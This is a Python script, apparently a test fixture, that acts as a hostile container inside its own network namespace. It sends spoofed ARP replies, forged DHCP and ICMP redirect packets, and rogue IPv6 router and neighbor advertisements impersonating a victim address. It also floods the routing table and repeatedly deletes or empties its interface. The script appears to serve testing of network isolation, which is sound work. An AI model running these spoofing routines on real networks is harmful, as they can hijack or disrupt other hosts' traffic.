# What a hostile container can do to its own network namespace, in turns, until it is ended: frames that are not its
# own, an interface deleted or emptied again and again, and a routing table without end.
import itertools, socket, struct, subprocess, sys, threading, time

NAME, OWN4, VICTIM4, VICTIM6, PHASE = "eth1", "10.0.0.66", "10.0.0.1", "fd00::1", float(sys.argv[1])


def ip(*args, text=None):
    subprocess.run(["ip", *args], input=text, text=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def mac():
    with open(f"/sys/class/net/{NAME}/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def ipv4(source, protocol, payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0,
                         socket.inet_aton(source), b"\xff" * 4)
    return header + payload


def ipv6(source, protocol, payload):
    return (struct.pack("!IHBB", 0x60000000, len(payload), protocol, 255)
            + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, "ff02::1") + payload)


def arp(own, operation, sender, target):
    return (b"\0\1\x08\0\6\4" + struct.pack("!H", operation) + own + socket.inet_aton(sender) + b"\0" * 6
            + socket.inet_aton(target))


def frames(own):
    victim6 = socket.inet_pton(socket.AF_INET6, VICTIM6)
    advertisement = bytes([134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0])
    broadcast, other = b"\xff" * 6 + own, b"\xff" * 6 + b"\2\0\0\0\0\x66"
    for answer in (1, 2):
        yield broadcast + b"\x08\x06" + arp(own, answer, VICTIM4, VICTIM4)
        yield other + b"\x08\x06" + arp(b"\2\0\0\0\0\x66", answer, VICTIM4, VICTIM4)
    yield broadcast + b"\x08\x06" + arp(own, 1, "0.0.0.0", VICTIM4)
    for source in (VICTIM4, OWN4):
        yield broadcast + b"\x08\0" + ipv4(source, 17, struct.pack("!HHHH", 67, 68, 12, 0) + b"hihi")
        yield broadcast + b"\x08\0" + ipv4(source, 1, bytes([5, 1, 0, 0]) + socket.inet_aton(OWN4) + b"\0" * 28)
    for source in ("::", VICTIM6, "fd00::66", "fe80::1"):
        yield broadcast + b"\x86\xdd" + ipv6(source, 58, advertisement)
        yield broadcast + b"\x86\xdd" + ipv6(source, 44, bytes([58, 0, 0, 1, 0, 0, 0, 7]) + advertisement)
        for kind in (135, 136, 137):
            yield broadcast + b"\x86\xdd" + ipv6(source, 58, bytes([kind, 0, 0, 0, 0x20, 0, 0, 0]) + victim6)
        yield broadcast + b"\x86\xdd" + ipv6(source, 17, struct.pack("!HHHH", 547, 546, 12, 0) + b"hihi")


def spoof():
    while True:
        try:
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
                wire.bind((NAME, 0))
                for frame in frames(mac()):
                    wire.send(frame)
        except OSError:
            pass
        time.sleep(0.01)


def until(end, act):
    while time.monotonic() < end:
        act()
        time.sleep(0.05)


def empty():
    ip("address", "flush", "dev", NAME)
    ip("route", "del", "default")
    ip("link", "set", NAME, "down")


threading.Thread(target=spoof, daemon=True).start()
ip("link", "set", "lo", "up")
routes = (f"route add 100.{a}.{b}.{c}/32 dev lo" for a in range(64, 67) for b in range(256) for c in range(256))
ip("-force", "-batch", "-", text="\n".join(routes))
for act in itertools.cycle([lambda: ip("link", "del", NAME), empty, lambda: None]):
    until(time.monotonic() + PHASE, act)
